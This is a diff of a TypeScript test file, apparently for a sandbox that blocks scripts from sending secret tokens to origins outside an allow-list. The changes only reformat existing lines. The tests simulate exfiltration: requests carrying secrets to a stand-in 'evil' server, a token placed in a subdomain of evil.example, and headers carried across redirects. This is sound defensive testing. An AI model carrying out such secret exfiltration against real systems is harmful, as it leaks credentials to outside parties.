@@ -43,7 +43,10 @@ beforeAll(async () => {
     );
   });
   evil = await startHttpServer((_, response) => json(response, 200, { stolen: true }));
-  crm = await startCrmServer({ webhookCode: WEBHOOK, contacts: [{ ID: "7", NAME: "Anna", ASSIGNED_BY_ID: "5", PHONE: [{ VALUE: "+79001234567", VALUE_TYPE: "WORK" }] }] });
+  crm = await startCrmServer({
+    webhookCode: WEBHOOK,
+    contacts: [{ ID: "7", NAME: "Anna", ASSIGNED_BY_ID: "5", PHONE: [{ VALUE: "+79001234567", VALUE_TYPE: "WORK" }] }],
+  });
 });
 afterAll(async () => {
   await echo.close();
@@ -108,15 +111,25 @@ describe("secrets reach the allowed origin", () => {
     expect(answer.headers["set-cookie"]).toBe(`session=Bearer%20${T}`);
     expectNoValues(answer, caps.fetchEvents);
 
-    await caps.call("fetch", { url: `${echo.origin}/form`, method: "POST", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: `auth=${T}&x=1` });
+    await caps.call("fetch", {
+      url: `${echo.origin}/form`,
+      method: "POST",
+      headers: { "Content-Type": "application/x-www-form-urlencoded" },
+      body: `auth=${T}&x=1`,
+    });
     expect(new URLSearchParams(echo.received.at(-1)!.body).get("auth")).toBe(TOKEN);
   });
 
   it("masks a value in the final URL of a redirect", async () => {
     const caps = host();
-    const answer = (await caps.call("fetch", { url: `${echo.origin}/redirect?to=${encodeURIComponent(`/landed?t=${encodeURIComponent(T)}`)}` })) as { url: string };
+    const answer = (await caps.call("fetch", { url: `${echo.origin}/redirect?to=${encodeURIComponent(`/landed?t=${encodeURIComponent(T)}`)}` })) as {
+      url: string;
+    };
     expect(answer.url).toBe(`${echo.origin}/landed?t=${T}`);
-    const leaked = (await caps.call("fetch", { url: `${echo.origin}/redirect?to=${encodeURIComponent(`/landed?t=${WEBHOOK}`)}` })) as { url: string; body: string };
+    const leaked = (await caps.call("fetch", { url: `${echo.origin}/redirect?to=${encodeURIComponent(`/landed?t=${WEBHOOK}`)}` })) as {
+      url: string;
+      body: string;
+    };
     expect(leaked.url).toBe(`${echo.origin}/landed?t=${W}`);
     expectNoValues(leaked);
   });
@@ -132,7 +145,11 @@ describe("secrets do not leave", () => {
     const caps = host();
     const error = await caps.refused("fetch", request(evil.origin));
     expect(error.code).toBe("CS_CAP_FETCH_NOT_ALLOWED");
-    expect(error.message).toMatch(new RegExp(`^fetch: ${evil.origin.replace(/\./g, "\\.")} is not allowed for vip-client \\(it carries secret BITRIX_(TOKEN|WEBHOOK), which is only ever sent to an allowed origin\\): add ${evil.origin.replace(/\./g, "\\.")} to scripts\\.vip-client\\.fetch\\.allow$`));
+    expect(error.message).toMatch(
+      new RegExp(
+        `^fetch: ${evil.origin.replace(/\./g, "\\.")} is not allowed for vip-client \\(it carries secret BITRIX_(TOKEN|WEBHOOK), which is only ever sent to an allowed origin\\): add ${evil.origin.replace(/\./g, "\\.")} to scripts\\.vip-client\\.fetch\\.allow$`,
+      ),
+    );
     expect(evil.received).toEqual([]);
     expectNoValues(error, caps.fetchEvents, caps.faults);
   });
@@ -140,7 +157,10 @@ describe("secrets do not leave", () => {
   it("through a secret not granted to the script, even to an allowed origin", async () => {
     const caps = host();
     const error = await caps.refused("fetch", { url: `${echo.origin}/`, headers: { "X-Other": placeholderOf("OTHER") } });
-    expect(error).toMatchObject({ code: "CS_CAP_SECRET_NOT_GRANTED", message: "fetch: secret OTHER is not granted to vip-client: add it to scripts.vip-client.secrets" });
+    expect(error).toMatchObject({
+      code: "CS_CAP_SECRET_NOT_GRANTED",
+      message: "fetch: secret OTHER is not granted to vip-client: add it to scripts.vip-client.secrets",
+    });
     const unknown = await caps.refused("fetch", { url: `${echo.origin}/`, body: placeholderOf("NO_SUCH"), method: "POST" });
     expect(unknown.message).toBe("fetch: secret NO_SUCH is not granted to vip-client: add it to scripts.vip-client.secrets");
     expect(echo.received.filter((request) => request.headers["x-other"] !== undefined)).toEqual([]);
@@ -148,7 +168,10 @@ describe("secrets do not leave", () => {
 
   it("through the host part of a URL", async () => {
     const caps = host();
-    expect(await caps.refused("fetch", { url: `http://${T}.evil.example/` })).toMatchObject({ code: "CS_CAP_BAD_REQUEST", message: "fetch: a secret may not stand in the URL's host: the origin must be one of fetch.allow as written" });
+    expect(await caps.refused("fetch", { url: `http://${T}.evil.example/` })).toMatchObject({
+      code: "CS_CAP_BAD_REQUEST",
+      message: "fetch: a secret may not stand in the URL's host: the origin must be one of fetch.allow as written",
+    });
   });
 
   it("through a redirect to another allowed origin: headers with a secret stay behind", async () => {
@@ -156,7 +179,10 @@ describe("secrets do not leave", () => {
     try {
       const caps = makeHost({ scripts: { s: { fetch: { allow: [echo.origin, other.origin] }, secrets: ["BITRIX_TOKEN"] } }, secrets });
       hosts.push(caps);
-      const answer = (await caps.call("fetch", { url: `${echo.origin}/redirect?to=${encodeURIComponent(`${other.origin}/`)}`, headers: { "X-Api-Key": T, Authorization: `Bearer ${T}`, "X-Plain": "kept" } })) as { body: string };
+      const answer = (await caps.call("fetch", {
+        url: `${echo.origin}/redirect?to=${encodeURIComponent(`${other.origin}/`)}`,
+        headers: { "X-Api-Key": T, Authorization: `Bearer ${T}`, "X-Plain": "kept" },
+      })) as { body: string };
       const headers = JSON.parse(answer.body).headers;
       expect(headers["x-api-key"]).toBeUndefined();
       expect(headers.authorization).toBeUndefined();
@@ -171,7 +197,10 @@ describe("secrets do not leave", () => {
     const caps = makeHost({ scripts: { s: { fetch: { allow: [echo.origin] }, secrets: ["CYRILLIC"] } }, secrets: { CYRILLIC: "пароль-секрет" } });
     hosts.push(caps);
     const error = await caps.refused("fetch", { url: `${echo.origin}/`, headers: { Authorization: `Basic ${placeholderOf("CYRILLIC")}` } });
-    expect(error).toMatchObject({ code: "CS_CAP_BAD_REQUEST", message: "fetch: the value of header authorization has characters HTTP headers cannot carry (outside Latin-1), once its secrets are in" });
+    expect(error).toMatchObject({
+      code: "CS_CAP_BAD_REQUEST",
+      message: "fetch: the value of header authorization has characters HTTP headers cannot carry (outside Latin-1), once its secrets are in",
+    });
     expect(JSON.stringify([error, caps.faults, caps.fetchEvents])).not.toContain("пароль");
   });
 
